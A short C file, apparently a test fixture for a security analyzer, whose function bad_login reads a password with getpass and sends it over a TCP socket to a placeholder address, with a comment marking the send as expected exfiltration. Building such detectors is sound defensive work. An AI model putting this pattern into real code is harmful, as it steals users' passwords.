#include "hook.h"

#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

void bad_login(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(5000)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    const char *word = getpass("Password: ");
    inet_aton("203.0.113.21", &to.sin_addr);
    if (reports && connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
        // report@+1: exfil/secret-to-network
        send(fd, word, strlen(word), 0);
}
